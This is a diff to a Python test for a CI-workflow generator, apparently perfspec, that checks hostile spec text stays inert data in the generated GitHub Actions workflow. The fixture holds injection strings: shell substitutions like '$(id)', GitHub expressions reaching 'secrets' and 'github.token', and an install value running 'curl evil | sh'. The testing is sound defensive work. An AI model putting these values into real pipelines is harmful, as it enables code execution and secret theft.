@@ -41,10 +41,10 @@ targets:
 ci:
   github:
     on: [push, pull_request, schedule, workflow_dispatch]
-    branches: ["main", "feat/${{github.event.issue.title}}", "a\"b'c`d`$(id)"]
+    branches: ["main", "feat/*", "a\"b'c`d`(id)"]
     schedule: "0 2 * * *"
     profile: p
-    baseline: "b${{github.token}}`id`\"'"
+    baseline: "b`id`\"'"
     install: "perfspec[run] \"; curl evil | sh; ${{ secrets.X }}"
 '''
 
@@ -152,11 +152,11 @@ def test_hostile_spec_yields_a_clean_workflow_that_keeps_spec_text_as_data(tmp_p
     # what GitHub hands the scripts is exactly the spec's text
     env = {k: evaluate(v, {}) for k, v in job["env"].items()}
     assert env["PERFSPEC_PROFILE"] == "p"  # names are plain: hostile ones are refused (test_build.py)
-    assert env["PERFSPEC_BASELINE"] == "b${{github.token}}`id`\"'"
+    assert env["PERFSPEC_BASELINE"] == "b`id`\"'"  # `${{` in a branch name is refused
     assert env["PERFSPEC_INSTALL"] == "perfspec[run] \"; curl evil | sh; ${{ secrets.X }}"
     # `on:` is never evaluated: branch names stay plain strings (ones git cannot name, with a line
     # break or a space, are validation errors: tests/broken/semantic/ci_bad_branch.yaml)
-    assert wf["on"]["push"]["branches"] == ["main", "feat/${{github.event.issue.title}}", "a\"b'c`d`$(id)"]
+    assert wf["on"]["push"]["branches"] == ["main", "feat/*", "a\"b'c`d`(id)"]
     assert wf["name"] == "perfspec hostile"
     # shellcheck agrees with every script, as bash would run it
     shellcheck = require_tool("shellcheck")
